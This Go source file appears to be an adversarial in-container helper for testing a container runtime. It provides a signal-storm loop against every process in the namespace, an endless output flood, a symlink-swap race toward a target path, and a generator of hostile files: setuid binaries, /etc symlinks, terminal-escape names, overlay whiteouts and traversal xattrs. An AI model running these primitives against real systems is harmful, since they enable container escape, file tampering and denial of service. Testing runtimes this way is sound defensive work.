package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// molest SIGNAL: sends it to every process that comes into this pid namespace, as
// soon as it is there: the runtime's, on its way to an exec or a health probe.
func molest(args []string) {
	sig := unix.SignalNum("SIG" + args[0])
	for {
		for _, pid := range pids() {
			if pid != 1 {
				_ = unix.Kill(pid, sig)
			}
		}
	}
}

// flood [FILE]: a health probe that writes without end, and leaves a child in a
// session of its own behind, which holds its stdout.
func flood(args []string) {
	if len(args) > 0 {
		child := exec.Command("/proc/self/exe", "beat", args[0])
		child.Stdout, child.Stderr = os.Stdout, os.Stderr
		child.SysProcAttr = &unix.SysProcAttr{Setsid: true}
		_ = child.Start()
	}
	line := []byte(strings.Repeat("\x00\xff\x1b]0;", 1000))
	for {
		if _, err := os.Stdout.Write(line); err != nil {
			return
		}
	}
}

// zeros N: writes N zero bytes, each of which is six bytes of JSON.
func zeros(args []string) {
	n, _ := strconv.Atoi(args[0])
	_, _ = os.Stdout.Write(make([]byte, n))
}

// turn DIR TARGET: a folder DIR/d which is, every other moment, a link to TARGET.
func turn(args []string) {
	dir, target := args[0], args[1]
	_ = os.MkdirAll(filepath.Join(dir, "d"), 0o777)
	_ = os.WriteFile(filepath.Join(dir, "d/f"), []byte("mine\n"), 0o666)
	_ = os.Symlink(target, filepath.Join(dir, "l"))
	n := 0
	for end := time.Now().Add(time.Minute); time.Now().Before(end); n++ {
		_ = unix.Renameat2(unix.AT_FDCWD, filepath.Join(dir, "d"), unix.AT_FDCWD, filepath.Join(dir, "l"), unix.RENAME_EXCHANGE)
	}
}

// litter DIR: what no copy can take with it: pipes, sockets, hard links in
// circles, set-id programs, attributes of the drivers', a tree without end, names
// that steer a terminal. Then it sleeps.
func litter(args []string) {
	dir := args[0]
	_ = os.MkdirAll(dir, 0o777)
	at := func(name string) string { return filepath.Join(dir, name) }
	_ = unix.Mkfifo(at("fifo"), 0o666)
	if l, err := net.Listen("unix", at("socket")); err == nil {
		defer l.Close()
	}
	_ = os.WriteFile(at("suid"), []byte("x"), 0o755)
	_ = os.Chmod(at("suid"), 0o755|os.ModeSetuid|os.ModeSetgid)
	_ = os.Link(at("suid"), at("again"))
	_ = os.Symlink("/etc", at("etc"))
	_ = os.Symlink("loop", at("loop"))
	_ = os.WriteFile(at("e\x1b]0;x\x07\u009b2J\nrc: forged"), nil, 0o644)
	_ = os.WriteFile(at(".wh.hosts"), nil, 0o644)
	_ = os.WriteFile(at("marks"), nil, 0o644)
	_ = os.Mkdir(at("opaque"), 0o755)
	for _, name := range []string{"user.overlay.opaque", "user.overlay.redirect", "user.overlay.overlay.redirect", "user.containers.override_stat", "user.mine"} {
		for _, file := range []string{"marks", "opaque"} {
			_ = unix.Setxattr(at(file), name, []byte("/../../etc"), 0)
		}
	}
	levels := deepen(dir, 3000)
	fmt.Printf("littered %d levels\n", levels)
	time.Sleep(time.Hour)
}

// deepen makes folders in each other.
func deepen(dir string, levels int) (made int) {
	_ = os.Mkdir(filepath.Join(dir, "deep"), 0o755)
	at, err := unix.Open(filepath.Join(dir, "deep"), unix.O_PATH|unix.O_DIRECTORY, 0)
	for ; made < levels && err == nil; made++ {
		if err = unix.Mkdirat(at, "d", 0o755); err != nil {
			break
		}
		next := 0
		next, err = unix.Openat(at, "d", unix.O_PATH|unix.O_DIRECTORY, 0)
		_ = unix.Close(at)
		at = next
	}
	return made
}
